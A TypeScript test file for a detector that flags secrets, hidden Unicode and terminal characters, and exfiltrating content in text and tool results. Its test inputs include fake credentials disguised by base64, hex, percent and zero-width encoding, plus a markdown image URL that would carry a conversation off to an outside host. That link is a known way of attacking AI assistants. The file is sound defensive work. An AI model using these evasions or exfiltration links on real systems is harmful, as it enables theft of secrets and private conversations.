import * as fc from 'fast-check';
import { expect, test } from 'vitest';
import { alone } from '../../test/fixtures/subjects.ts';
import { findSecret } from '../policy/secrets.ts';
import { doubts, doubtsAbout, doubtsAboutText } from './doubts.ts';
import { invisibleCharacters } from './rules/invisible-characters.ts';
import { terminalSequences } from './rules/terminal-sequences.ts';

const key = ['ghp', 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'].join('_');

test.each([
  ['a sentence', 'INT. LIGHTHOUSE - NIGHT. The keeper climbs the stairs.'],
  ['a path', 'scenes/scene-01.md'],
  ['a short answer', 'ok'],
  ['other scripts', 'Où est le phare ? 灯台はどこですか'],
  ['lines and tabs', 'a\tb\r\nc'],
])('%s makes nothing doubtful', (_, text) => {
  expect(doubtsAboutText(text)).toBe(0);
});

test.each([
  ['as it is', key],
  ['in base64', Buffer.from(`the token is ${key}`).toString('base64')],
  ['in hexadecimal', Buffer.from(`token ${key}`).toString('hex')],
  ['in spaced hexadecimal', (Buffer.from(`token ${key}`).toString('hex').match(/../g) ?? []).join(' ')],
  ['in percent digits', Array.from(key, (char) => `%${char.charCodeAt(0).toString(16)}`).join('')],
  ['in character references', Array.from(key, (char) => `&#${char.charCodeAt(0)};`).join('')],
  ['with invisible characters between', Array.from(key).join('\u200b')],
  ['as a setting', 'password = Tr0ub4dor&3xyz!!abc'],
  ['in a URL', 'postgres://admin:wintermute@db.example.org/x'],
  ['in a netrc line', 'machine h login joe password swordfish1'],
])('a key %s is doubtful, as the rule finds it', (_, text) => {
  expect(findSecret(text)).toBeDefined();
  expect(doubtsAboutText(text) & doubts.secret).toBe(doubts.secret);
});

test('what the rules about hidden characters hold is always doubtful', () => {
  const odd = fc.constantFrom(
    '\u001b',
    '\u0007',
    '\u202e',
    '\u{e0041}',
    '\u200b',
    '\ufe0f',
    '\u{e0100}',
    '\u009b',
    'a',
  );
  fc.assert(
    fc.property(fc.array(odd, { maxLength: 12 }), (chars) => {
      const result = { content: [{ type: 'text', text: chars.join('') }] };
      const subject = { kind: 'result', server: 's', result } as const;
      const found = [invisibleCharacters, terminalSequences].flatMap((rule) => rule(subject, alone));
      expect(found.length === 0 || (doubtsAbout(result) & doubts.hidden) > 0).toBe(true);
    }),
  );
});

test('keys of objects are looked at, and what nests deeper than rules look is doubtful', () => {
  expect(doubtsAbout({ structuredContent: { ['a\u{e0041}']: 1 } })).not.toBe(0);
  let deep: unknown = 'x';
  for (let at = 0; at < 70; at += 1) deep = [deep];
  expect(doubtsAbout(deep) & doubts.hidden).toBe(doubts.hidden);
});

test('a picture is no key', () => {
  const data = Buffer.from(Array.from({ length: 9_000 }, (_, at) => (at * 7_919) % 256)).toString('base64');
  expect(doubtsAbout({ content: [{ type: 'image', data, mimeType: 'image/png' }] })).toBe(0);
});

test('an image whose address carries something away is doubtful, a link is not', () => {
  expect(doubtsAboutText('![x](https://a.example/?q={conversation})') & doubts.loaded).toBe(doubts.loaded);
  expect(doubtsAboutText('See [the page](https://a.example/page).')).toBe(0);
});
